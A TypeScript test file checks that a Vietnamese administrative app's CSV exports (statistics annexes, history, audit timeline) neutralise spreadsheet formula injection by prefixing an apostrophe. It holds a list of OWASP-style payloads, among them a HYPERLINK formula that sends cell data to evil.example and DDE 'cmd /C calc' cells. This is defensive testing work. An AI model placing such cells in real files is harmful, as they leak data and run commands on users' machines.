import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { csvOf } from '../../../api/statistics/tableFile';
import { timelineCsv } from '../../../audit/timeline';
import { plainCell } from '../../../data/csvFile';
import { writeCsv } from '../../../data/history/import/spreadsheetFiles';

/** Cells a spreadsheet program would run (OWASP's CSV injection examples, and variants). */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '   =1+1',
  '＝1+1',
];

/** What a spreadsheet program reads as each cell's text. */
const cells = (csv: Buffer | string) =>
  (parse(String(csv).replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]).flat();

const startsFormula = (text: string) => /^(?:[\t\r]|[\s\u3000]*[=+\-@＝＋－＠])/.test(text);
/** A cell that would run: it starts a formula and is not a plain number such as -1. */
const runs = (text: string) => startsFormula(text) && !/^-?\d+(?:\.\d+)?$/.test(text);

describe('one CSV writer: no cell of any export starts a formula', () => {
  test('statistics and decision annexes', () => {
    const csv = csvOf({
      name: 'Danh sách',
      preamble: ['Danh sách kèm theo Quyết định số 1/QĐ-BDTTG', HOSTILE[0]!],
      header: ['STT', 'Họ và tên', 'Chức vụ'],
      rows: HOSTILE.map((text, i) => [i + 1, text, -1]),
    });
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const read = cells(csv);
    expect(read.filter(runs)).toEqual([]);
    expect(read).toContain(`'${HOSTILE[0]}`);
    // Numbers stay numbers, negative ones included.
    expect(read).toContain('-1');
  });

  test('the history export', () => {
    const csv = writeCsv({
      name: 'Khen thưởng',
      columns: [
        { key: 'name', vi: 'Họ và tên', en: 'Full name', type: { kind: 'text' } },
        { key: 'note', vi: 'Ghi chú', en: 'Note', type: { kind: 'text' } },
      ],
      rows: HOSTILE.map((text) => ['Lò Văn Púa', text]),
    });
    const read = cells(csv);
    expect(read.filter(runs)).toEqual([]);
    expect(read).toContain('Lò Văn Púa');
  });

  test('the timeline, as before', () => {
    const read = cells(
      timelineCsv(
        HOSTILE.map((action) => ({
          at: '2025-12-22T20:30:00Z',
          atVietnam: '2025-12-23 03:30:00',
          source: 'audit' as const,
          action,
          actorId: '@admin',
          actorName: 'a',
          actorRole: 'a',
        })),
      ),
    );
    expect(read.filter(runs)).toEqual([]);
  });

  test('any text: kept as it was, or kept after one apostrophe when it would start a formula', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.constantFrom(...HOSTILE).chain((h) => fc.string().map((s) => h + s)),
        ),
        (text) => {
          const cell = String(plainCell(text));
          expect(startsFormula(cell)).toBe(false);
          expect(cell === text || cell === `'${text}`).toBe(true);
        },
      ),
    );
  });
});
